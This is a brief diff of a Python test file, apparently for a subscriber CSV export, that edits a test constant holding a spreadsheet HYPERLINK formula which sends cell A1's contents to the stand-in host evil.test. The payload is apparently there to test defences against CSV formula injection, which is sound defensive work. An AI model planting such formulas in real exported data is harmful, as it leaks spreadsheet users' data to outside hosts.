@@ -240,7 +240,7 @@ def test_export_selected_subscribers_as_csv(admin_client):
     ]
 
 
-FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
+FORMULA = '=HYPERLINK("http://evil.test/?x="&A1)'  # no comma: commas separate topics
 
 
 @pytest.mark.parametrize(
